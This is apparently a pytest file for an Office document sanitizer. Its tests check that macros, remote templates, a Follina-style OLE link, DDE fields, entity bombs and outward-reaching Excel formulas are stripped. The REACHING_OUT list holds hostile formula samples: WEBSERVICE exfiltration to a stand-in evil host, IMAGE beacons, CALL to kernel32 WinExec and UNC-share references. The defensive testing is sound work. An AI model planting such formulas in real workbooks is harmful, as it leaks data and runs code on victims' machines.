"""OOXML sanitizer: macros, remote templates, DDE fields and hyperlinks go (oletools says so),
the text stays (python-docx/openpyxl say so), macro-enabled names become plain ones."""

from __future__ import annotations

import io
import zipfile

import docx
import openpyxl
import pytest
from lxml import etree

from gateway.errors import CannotSanitize
from gateway.sanitizers.base import SanitizeOptions
from gateway.sanitizers.ole import soffice_path
from gateway.sanitizers.ooxml import OoxmlSanitizer
from tests.helpers import hostile, oracle
from tests.text.linkify import live_links

SANITIZER = OoxmlSanitizer()


def _sanitize(data: bytes, name: str):  # type: ignore[no-untyped-def]
    return SANITIZER.sanitize(data, name, "1.3", SanitizeOptions())


def _paragraphs(data: bytes) -> list[str]:
    return [p.text for p in docx.Document(io.BytesIO(data)).paragraphs if p.text]


def test_docm_becomes_docx_without_macros() -> None:
    data = hostile.docm()
    assert "VBA macros (olevba)" in oracle.office_active_content(data, ".docm")
    result = _sanitize(data, "請求書.docm")
    (output,) = result.outputs
    assert output.filename == "請求書.docx"
    assert output.content_type.endswith("wordprocessingml.document")
    assert oracle.office_active_content(output.data, ".docx") == []
    names = zipfile.ZipFile(io.BytesIO(output.data)).namelist()
    assert not any("vba" in n.lower() for n in names)
    types = zipfile.ZipFile(io.BytesIO(output.data)).read("[Content_Types].xml")
    assert b"macroEnabled" not in types
    assert _paragraphs(output.data) == _paragraphs(hostile.benign_docx())
    codes = {f.code for f in result.findings}
    assert {"OOXML_VBA_MACRO", "OOXML_MACRO_ENABLED_TYPE"} <= codes


def test_xlsm_becomes_xlsx_without_vba_or_xlm() -> None:
    result = _sanitize(hostile.xlsm(), "book.xlsm")
    (output,) = result.outputs
    assert output.filename == "book.xlsx"
    assert oracle.office_active_content(output.data, ".xlsx") == []
    codes = {f.code for f in result.findings}
    assert {"OOXML_VBA_MACRO", "OOXML_XLM_MACRO", "OOXML_ACTION_REMOVED"} <= codes
    workbook = openpyxl.load_workbook(io.BytesIO(output.data))
    assert workbook.sheetnames == ["Sheet"]
    assert workbook.active["A3"].value == "row 3 行"
    assert workbook.active["B6"].value == "=SUM(B1:B5)"  # an ordinary formula survives


def test_remote_template_and_follina_link_removed() -> None:
    data = hostile.docx_remote_template()
    found = oracle.office_active_content(data, ".docx")
    assert any("attachedTemplate" in f for f in found)
    assert any("oleObject" in f for f in found)
    result = _sanitize(data, "a.docx")
    detail = next(f.detail for f in result.findings if f.code == "OOXML_EXTERNAL_RELATIONSHIP")
    assert "attachedtemplate -> hxxps://evil[.]example/template.dotm" in detail
    # The Follina link is named in the evidence, defanged (see below).
    assert "oleobject -> mhtml[:]" in detail
    output = result.outputs[0].data
    assert oracle.office_active_content(output, ".docx") == []
    document = zipfile.ZipFile(io.BytesIO(output)).read("word/document.xml")
    assert b"OLEObject" not in document
    assert _paragraphs(output) == _paragraphs(hostile.benign_docx())


def test_removed_link_evidence_is_defanged_like_the_template() -> None:
    result = _sanitize(hostile.docx_remote_template(), "a.docx")
    detail = next(f.detail for f in result.findings if f.code == "OOXML_EXTERNAL_RELATIONSHIP")
    # The shared defanger's form for an opaque scheme (as in a body): "mhtml[:]", then the
    # web URL inside it defanged like the template's.
    assert "oleobject -> mhtml[:]hxxps://evil[.]example/x.html" in detail
    assert "https://" not in detail
    assert live_links(detail) == [], detail


def test_dde_fields_unlinked_results_kept() -> None:
    data = hostile.docx_dde()
    assert any(f.startswith("DDE (msodde)") for f in oracle.office_active_content(data, ".docx"))
    result = _sanitize(data, "dde.docx")
    output = result.outputs[0].data
    assert oracle.office_active_content(output, ".docx") == []
    text = "\n".join(_paragraphs(output))
    for kept in ("visible result", "simple result", "quoted result"):
        assert kept in text
    document = zipfile.ZipFile(io.BytesIO(output)).read("word/document.xml")
    assert b"DDE" not in document.replace(b"DDEAUTO</w:t>", b"")  # only QUOTE's old result
    assert b" PAGE " in document  # an allowed field stays a field
    codes = [f.code for f in result.findings]
    assert "DDE_FIELD" in codes
    assert "QUOTE" in next(f.detail for f in result.findings if f.code == "OOXML_FIELD_REMOVED")


def test_hyperlink_made_inert_text_kept() -> None:
    data = hostile.benign_docx(link=True)
    result = _sanitize(data, "a.docx")
    assert [f.code for f in result.findings] == ["OOXML_HYPERLINK"]
    output = result.outputs[0].data
    assert "click here" in "\n".join(_paragraphs(output))
    rels = zipfile.ZipFile(io.BytesIO(output)).read("word/_rels/document.xml.rels")
    assert b"evil.example" not in rels


def test_clean_docx_is_unchanged_in_content_and_findings() -> None:
    data = hostile.benign_docx(5)
    result = _sanitize(data, "clean.docx")
    assert result.findings == ()
    assert _paragraphs(result.outputs[0].data) == _paragraphs(data)


@pytest.mark.parametrize(
    "data", [b"PK\x03\x04garbage", hostile.simple_zip({"a.txt": b"x"}), b"", b"\x00" * 100]
)
def test_garbage_fails_closed(data: bytes) -> None:
    with pytest.raises(CannotSanitize) as caught:
        _sanitize(data, "x.docx")
    assert caught.value.code == "OOXML_DAMAGED"


def test_xml_entities_are_not_expanded() -> None:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
    )
    data = hostile._rewrite_zip(hostile.benign_docx(), {"word/document.xml": bomb})
    with pytest.raises(CannotSanitize, match="DOCTYPE in a package part") as caught:
        _sanitize(data, "x.docx")
    assert caught.value.code == "OOXML_DAMAGED"


@pytest.mark.skipif(soffice_path() is not None, reason="LibreOffice is installed here")
def test_rasterize_without_libreoffice_fails_closed() -> None:
    only_images = SANITIZER.sanitize(
        hostile.docm(), "a.docm", "1", SanitizeOptions(mode="rasterize")
    )
    assert only_images.outputs == ()
    assert "OOXML_RASTERIZE_UNAVAILABLE" in {f.code for f in only_images.findings}
    both = SANITIZER.sanitize(hostile.docm(), "a.docm", "1", SanitizeOptions(mode="both"))
    assert [o.filename for o in both.outputs] == ["a.docx"]


@pytest.mark.skipif(soffice_path() is None, reason="LibreOffice (soffice) is not installed")
def test_both_with_libreoffice() -> None:
    result = SANITIZER.sanitize(hostile.docm(), "a.docm", "1", SanitizeOptions(mode="both"))
    assert [o.filename for o in result.outputs] == ["a.docx", "a_画像化.pdf"]
    assert oracle.pdf_active_content(result.outputs[1].data) == []


# --- formulas that fetch from outside (RT-09) -------------------------------------------------


def _workbook(cells: dict[str, tuple[str, str]], defined_names: str = "") -> bytes:
    """An xlsx whose sheet has ``cells``: {ref: (formula, cached value as Excel saved it)}.
    A text cached value is a formula-string cell (``t="str"``), as Excel writes it."""
    book = openpyxl.Workbook()
    book.active["A1"] = "集計"
    for ref, (formula, _cached) in cells.items():
        book.active[ref] = "=" + formula
    out = io.BytesIO()
    book.save(out)
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    root = etree.fromstring(zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml"))
    for cell in root.iter(ns + "c"):
        if cell.get("r") in cells:
            formula, cached = cells[cell.get("r")]
            assert cell.findtext(ns + "f") == formula
            cell.find(ns + "v").text = cached
            if not cached.replace(".", "").isdigit():
                cell.set("t", "str")
    sheet = etree.tostring(root).decode()
    changes: dict[str, bytes | None] = {"xl/worksheets/sheet1.xml": sheet.encode()}
    if defined_names:
        workbook = zipfile.ZipFile(out).read("xl/workbook.xml").decode()
        workbook = workbook.replace(
            "</sheets>", f"</sheets><definedNames>{defined_names}</definedNames>"
        )
        changes["xl/workbook.xml"] = workbook.encode()
    return hostile._rewrite_zip(out.getvalue(), changes)


def _cells(data: bytes) -> dict[str, tuple[str | None, str | None]]:
    """{ref: (formula or None, the value a reader shows)} of the first sheet, read as XML."""
    ns = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    root = etree.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
    out = {}
    for cell in root.iterfind(".//s:c", ns):
        formula = cell.findtext("s:f", namespaces=ns)
        value = cell.findtext("s:v", namespaces=ns) or cell.findtext("s:is/s:t", namespaces=ns)
        out[cell.get("r")] = (formula, value)
    return out


REACHING_OUT = [
    ("'\\\\10.0.0.5\\share\\[book.xlsx]Sheet1'!A1", "OOXML_EXTERNAL_REFERENCE"),
    (
        "SUM('\\\\fs.example.jp@SSL\\DavWWWRoot\\[b.xlsx]売上 2026'!A1:A9)",
        "OOXML_EXTERNAL_REFERENCE",
    ),
    ("'https://evil.example.jp/[book.xlsx]Sheet1'!A1", "OOXML_EXTERNAL_REFERENCE"),
    ("'file:///C:/x/[book.xlsx]Sheet1'!A1", "OOXML_EXTERNAL_REFERENCE"),
    ("[1]Sheet1!A1+1", "OOXML_EXTERNAL_REFERENCE"),  # index into a removed externalLink part
    ("\\\\10.0.0.5\\share\\[book.xlsx]Sheet1!A1", "OOXML_EXTERNAL_REFERENCE"),
    ('IMAGE("https://evil.example.jp/beacon.png")', "OOXML_FORMULA_REMOVED"),
    ('_xlfn.IMAGE("https://evil.example.jp/beacon.png",,0)', "OOXML_FORMULA_REMOVED"),
    ('WEBSERVICE("https://evil.example.jp/?q="&A1)', "OOXML_FORMULA_REMOVED"),
    ('FILTERXML(WEBSERVICE("https://evil.example.jp/x"),"//a")', "OOXML_FORMULA_REMOVED"),
    ('RTD("evil.server",,"x")', "OOXML_FORMULA_REMOVED"),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', "OOXML_FORMULA_REMOVED"),
    ('REGISTER.ID("shell32","ShellExecuteA")', "OOXML_FORMULA_REMOVED"),
    ('SQL.REQUEST("DSN=x",,2,"select 1")', "OOXML_FORMULA_REMOVED"),
    ('HYPERLINK("\\\\10.0.0.5\\share\\a.exe","open")', "OOXML_FORMULA_REMOVED"),
]


@pytest.mark.parametrize(("formula", "code"), REACHING_OUT, ids=[f[:40] for f, _ in REACHING_OUT])
def test_formulas_that_reach_out_become_their_cached_values(formula: str, code: str) -> None:
    data = _workbook(
        {"A2": (formula, "1234"), "A3": (formula, "前回の値"), "A4": ("SUM(1,2)", "3")}
    )
    result = _sanitize(data, "集計.xlsx")
    cells = _cells(result.outputs[0].data)
    assert cells["A2"] == (None, "1234")
    assert cells["A3"] == (None, "前回の値")
    assert cells["A4"] == ("SUM(1,2)", "3")  # an ordinary formula stays
    workbook = openpyxl.load_workbook(io.BytesIO(result.outputs[0].data))
    assert workbook.active["A3"].value == "前回の値"
    assert workbook.active["A3"].data_type == "s"
    detail = next(f.detail for f in result.findings if f.code == code)
    assert "A2" in detail or "sheet1" in detail
    assert live_links(detail) == [], detail
    assert "10.0.0.5" not in detail


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(B1:B5)",
        "'売上 2026'!A1*2",
        "SUM(Table1[金額])+Sheet2!A1",
        "Table1[[#This Row],[金額]]",
        "[@金額]*1.1",
        'IF(A1="","",VLOOKUP(A1,\'My Sheet\'!A:B,2,FALSE))',
        'CONCAT("IMAGE","(")',
    ],
)
def test_ordinary_formulas_are_kept(formula: str) -> None:
    result = _sanitize(_workbook({"A2": (formula, "1")}), "a.xlsx")
    assert _cells(result.outputs[0].data)["A2"] == (formula, "1")
    assert result.findings == ()


def test_shared_formula_followers_go_with_their_master() -> None:
    data = _workbook({"A2": ("'\\\\10.0.0.5\\s\\[b.xlsx]S'!A1", "7"), "A3": ("SUM(1,2)", "3")})
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    sheet = sheet.replace("<f>'", '<f t="shared" ref="A2:A3" si="0">\'').replace(
        "<f>SUM(1,2)</f>", '<f t="shared" si="0"/>'
    )
    data = hostile._rewrite_zip(data, {"xl/worksheets/sheet1.xml": sheet.encode()})
    cells = _cells(_sanitize(data, "a.xlsx").outputs[0].data)
    assert cells["A2"] == (None, "7")
    assert cells["A3"] == (None, "3")


def test_defined_names_that_reach_out_are_removed() -> None:
    names = (
        "<definedName name=\"remote\">'\\\\10.0.0.5\\s\\[b.xlsx]S'!$A$1</definedName>"
        '<definedName name="local">Sheet!$A$1</definedName>'
    )
    result = _sanitize(_workbook({"A2": ("remote", "5")}, names), "a.xlsx")
    workbook = zipfile.ZipFile(io.BytesIO(result.outputs[0].data)).read("xl/workbook.xml")
    assert b"10.0.0.5" not in workbook
    assert b'name="local"' in workbook
    assert "OOXML_EXTERNAL_REFERENCE" in {f.code for f in result.findings}
